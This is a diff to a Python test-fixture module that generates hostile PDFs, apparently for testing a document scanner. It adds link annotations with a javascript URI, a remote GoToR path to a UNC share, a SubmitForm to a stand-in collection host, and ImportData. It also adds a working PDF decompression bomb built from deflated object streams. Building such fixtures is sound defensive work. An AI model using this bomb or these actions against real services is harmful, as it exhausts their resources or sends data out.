@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import io
 import itertools
 import random
@@ -154,7 +155,20 @@ PDF_ACTIVE_KINDS = (
     "annotation_javascript",
     "embedded_file",
     "file_attachment_annotation",
+    "uri_javascript",
+    "link_gotor",
+    "link_gote",
+    "submit_form",
+    "import_data",
 )
+# Link actions each kind above puts on the first page (annotation /A).
+_LINK_ACTIONS = {
+    "uri_javascript": {"/S": "/URI", "/URI": " JavaScript:app.alert('oi')"},
+    "link_gotor": {"/S": "/GoToR", "/F": "\\\\servidor\\compartilhado\\a.pdf", "/D": "[0 /Fit]"},
+    "link_gote": {"/S": "/GoToE", "/D": "[0 /Fit]"},
+    "submit_form": {"/S": "/SubmitForm", "/F": "https://coleta.example/dados"},
+    "import_data": {"/S": "/ImportData", "/F": "dados.fdf"},
+}
 
 
 def make_pdf_bytes(
@@ -243,6 +257,22 @@ def make_pdf_bytes(
             }
         )
         first[name("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    elif active in _LINK_ACTIONS:
+        action = DictionaryObject(
+            {
+                name(key): (name(value) if value.startswith("/") else TextStringObject(value))
+                for key, value in _LINK_ACTIONS[active].items()
+            }
+        )
+        link = DictionaryObject(
+            {
+                name("/Type"): name("/Annot"),
+                name("/Subtype"): name("/Link"),
+                name("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 200, 720)]),
+                name("/A"): action,
+            }
+        )
+        first[name("/Annots")] = ArrayObject([writer._add_object(link)])
     elif active is not None:
         raise ValueError(f"unknown active content kind: {active}")
     if encrypted:
@@ -250,6 +280,98 @@ def make_pdf_bytes(
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
+
+
+@functools.lru_cache(maxsize=4)
+def _deflated_blanks(length: int) -> tuple[bytes, int, int]:
+    """``length`` blanks as a final raw-deflate segment, with their Adler-32."""
+    import zlib
+
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    chunk = b" " * (1024 * 1024)
+    parts, adler, left = [], 1, length
+    while left > 0:
+        piece = chunk[: min(left, len(chunk))]
+        parts.append(packer.compress(piece))
+        adler = zlib.adler32(piece, adler)
+        left -= len(piece)
+    parts.append(packer.flush())
+    return b"".join(parts), adler, length
+
+
+def _adler32_combine(first: int, second: int, second_length: int) -> int:
+    base = 65521
+    a = ((first & 0xFFFF) + (second & 0xFFFF) - 1) % base
+    b = ((first >> 16) + (second >> 16) + second_length * ((first & 0xFFFF) - 1)) % base
+    return (b << 16) | a
+
+
+def make_pdf_bomb(*, streams: int = 12, inflated_bytes: int = 70_000_000) -> bytes:
+    """A PDF whose object streams each inflate to ``inflated_bytes`` (about 1 KB per MB on disk).
+
+    The shape of the attack in issue #12: one page, and the catalog pointing at one object inside
+    each of ``streams`` deflated object streams padded with blanks, so resolving the catalog
+    inflates them all. Written by hand (no library writes object streams this way), deflated
+    in chunks so building it never holds the inflated bytes.
+    """
+    import zlib
+
+    def deflated_padding(prefix: bytes) -> bytes:
+        # zlib header + the prefix deflated + the blanks deflated once (cached) + Adler-32 of all:
+        # full flushes make the raw deflate segments independent, so they can be spliced.
+        blanks, blanks_adler, blanks_length = _deflated_blanks(inflated_bytes - len(prefix))
+        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+        head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
+        adler = _adler32_combine(zlib.adler32(prefix), blanks_adler, blanks_length)
+        return b"\x78\xda" + head + blanks + adler.to_bytes(4, "big")
+
+    first_stream, first_inner = 4, 100
+    objects: dict[int, bytes] = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /Chancela [ "
+        + b" ".join(b"%d 0 R" % (first_inner + i) for i in range(streams))
+        + b" ] >>",
+        2: b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] >>",
+    }
+    for i in range(streams):
+        header = b"%d 0 " % (first_inner + i)
+        data = deflated_padding(header + b"<< /Bomb true >>")
+        objects[first_stream + i] = (
+            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+            % (len(header), len(data))
+            + data
+            + b"\nendstream"
+        )
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets: dict[int, int] = {}
+    for number, body in objects.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref_number = first_inner + streams
+    size = xref_number + 1
+    rows = bytearray()
+    for number in range(size):
+        if number in offsets:
+            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
+        elif first_inner <= number < first_inner + streams:
+            stream = first_stream + number - first_inner
+            rows += bytes([2]) + stream.to_bytes(4, "big") + (0).to_bytes(2, "big")
+        elif number == xref_number:
+            rows += bytes([1]) + len(out).to_bytes(4, "big") + (0).to_bytes(2, "big")
+        else:
+            rows += (
+                bytes([0])
+                + (0).to_bytes(4, "big")
+                + (65535 if number == 0 else 0).to_bytes(2, "big")
+            )
+    xref_offset = len(out)
+    packed = zlib.compress(bytes(rows))
+    out += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [ 1 4 2 ] /Root 1 0 R /Filter /FlateDecode "
+        b"/Length %d >>\nstream\n" % (xref_number, size, len(packed))
+    )
+    out += packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
+    return bytes(out)
 
 
 def make_api_key(
